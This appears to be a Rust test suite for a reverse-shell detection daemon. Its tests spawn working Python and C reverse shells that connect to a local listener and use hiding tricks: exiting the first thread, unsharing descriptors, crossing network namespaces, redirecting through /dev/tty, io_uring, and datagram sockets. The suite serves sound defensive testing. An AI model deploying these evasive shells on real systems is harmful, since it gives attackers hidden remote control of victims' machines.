//! Relays and shells that do not show what they hold where it is usually looked for.

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::attacker::Listener;
use crate::common::daemon::Daemon;
use crate::common::programs::program;
use crate::common::relayed::{hops, is_on};
use crate::common::victim::Victim;
use crate::common::{DEADLINE, impossible, wait_at_most};
use crate::{alone, require};

/// A relay in Python: what it does first, and then, in a thread, the copying. The thread gets the socket and the pipes.
const RELAY: &str = "import ctypes,os,socket,subprocess,sys,threading,time,platform
c=ctypes.CDLL(None)
EXIT={'x86_64':60,'aarch64':93}[platform.machine()]
def copy():
    BEFORE
    MAKE
    s=socket.create_connection(('127.0.0.1',PORT))
    def out():
        while True:
            x=os.read(r,4096)
            if not x: os._exit(0)
            s.sendall(x)
    threading.Thread(target=out).start()
    while True:
        x=s.recv(4096)
        if not x: os._exit(0)
        SEND
t=threading.Thread(target=copy); t.start()
AFTER
";

/// The pipes of the shell.
const PIPES: &str = "a,w=os.pipe(); r,d=os.pipe(); subprocess.Popen(['/bin/sh'],stdin=a,stdout=d,stderr=d); \
                     os.close(a); os.close(d)";
/// A socketpair made here, of which the shell has its end in a network namespace of its own.
const PAIR: &str = "global p; p,y=socket.socketpair(); w=r=p.fileno(); \
                    subprocess.Popen(['/bin/sh'],stdin=y,stdout=y,stderr=y,preexec_fn=lambda: c.unshare(0x40000000)); \
                    y.close()";

fn prove(before: &str, make: &str, after: &str) {
    prove_sent(before, make, after, "os.write(w,x)");
}

fn prove_sent(before: &str, make: &str, after: &str, send: &str) {
    require!("/usr/bin/python3");
    let _alone = alone();
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let code = RELAY
        .replace("BEFORE", before)
        .replace("SEND", send)
        .replace("MAKE", make)
        .replace("AFTER", after)
        .replace("PORT", &attacker.port().to_string());
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", &code]).stdin(Stdio::null()).stdout(Stdio::null());
    let victim = Victim::spawn(command);
    let mut session = attacker.accept();
    assert!(session.run("id -u").starts_with('0'));
    let record =
        daemon.wait_for("the relayed shell", |record| is_on(record, &[attacker.port()]) && record.row() == 4);
    assert_eq!(hops(&record).last().map(String::as_str), Some("python3 socket"), "{}", record.brief());
    drop((session, victim));
}

/// Its first thread has ended: of the process `/proc/PID/fd` shows nothing any more.
#[test]
fn the_first_thread_has_ended() {
    prove("time.sleep(0.3)", PIPES, "c.syscall(EXIT,0)");
}

/// The thread has descriptors of its own, which the process does not show.
#[test]
fn a_thread_with_its_own_descriptors() {
    prove("c.unshare(0x400)", PIPES, "t.join()");
}

/// unix_diag answers for one network namespace; a socket stays in the one that it was made in.
#[test]
fn a_socketpair_between_network_namespaces() {
    prove("pass", PAIR, "t.join()");
}

/// The shell's descriptors are `/dev/tty`: a name for whatever its terminal is.
#[test]
fn a_shell_on_dev_tty() {
    require!("/usr/bin/python3");
    let _alone = alone();
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let code = "import pty,os,socket,sys,select
s=socket.create_connection(('127.0.0.1',PORT))
pid,m=pty.fork()
if pid==0:
    s.close(); os.execv('/bin/sh',['sh','-c','exec sh </dev/tty >/dev/tty 2>&1'])
while True:
    for f in select.select([s,m],[],[])[0]:
        x=os.read(f if f==m else f.fileno(),4096)
        if not x: sys.exit()
        os.write(m,x) if f is s else s.sendall(x)
";
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", &code.replace("PORT", &attacker.port().to_string())]);
    let victim = Victim::spawn({
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        command
    });
    let mut session = attacker.accept();
    let shell = session.shell_pid();
    let on = std::fs::read_link(format!("/proc/{shell}/fd/0")).unwrap();
    assert_eq!(on.to_str(), Some("/dev/tty"));
    let record = daemon.wait_for("the shell on /dev/tty", |record| {
        is_on(record, &[attacker.port()]) && record.row() == 4 && record.ran(&["sh"])
    });
    assert_eq!(hops(&record).last().map(String::as_str), Some("python3 socket"), "{}", record.brief());
    drop((session, victim));
}

/// The relay has given the socket and the pipes to an io_uring and closed them: on its descriptors there is the ring alone.
#[test]
fn files_of_a_ring() {
    require!("gcc");
    let _alone = alone();
    let daemon = Daemon::shared();
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let mut victim = Victim::start(program("ringrelay"), &[&port, "/bin/sh"]);
    if wait_at_most(Duration::from_millis(500), || victim.ended()).is_some() {
        return impossible("no io_uring here");
    }
    let mut session = attacker.accept();
    session.shell_pid();
    let found = wait_at_most(DEADLINE, || {
        daemon.records().into_iter().rfind(|record| is_on(record, &[attacker.port()]) && record.row() == 4)
    });
    let kernel = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    match found {
        Some(record) => {
            assert_eq!(
                hops(&record).last().map(String::as_str),
                Some("ringrelay socket"),
                "{}",
                record.brief()
            );
        }
        None if kernel.starts_with("5.") || kernel.starts_with("6.1.") => {
            impossible("this kernel does not say by number what a ring has");
        }
        None => panic!("the relay behind a ring was not found"),
    }
}

/// The shell reads datagrams that anybody may send to its socket's address; the relay holds nothing of that socket.
#[test]
fn a_shell_on_a_datagram_socket() {
    for send in ["t.sendto(x,d+'/in')", "t.connect(d+'/in'); t.send(x)"] {
        let directory = tempfile::tempdir().unwrap();
        let make = format!(
            "d='{}'; U=lambda: socket.socket(socket.AF_UNIX,socket.SOCK_DGRAM); \
             i=U(); i.bind(d+'/in'); o=U(); o.bind(d+'/out'); y=U(); y.connect(d+'/out'); r=o.fileno(); t=U(); \
             subprocess.Popen(['/bin/dash'],stdin=i,stdout=y,stderr=y); i.close(); y.close()",
            directory.path().display()
        );
        prove_sent("pass", &make, "t.join()", send);
    }
}
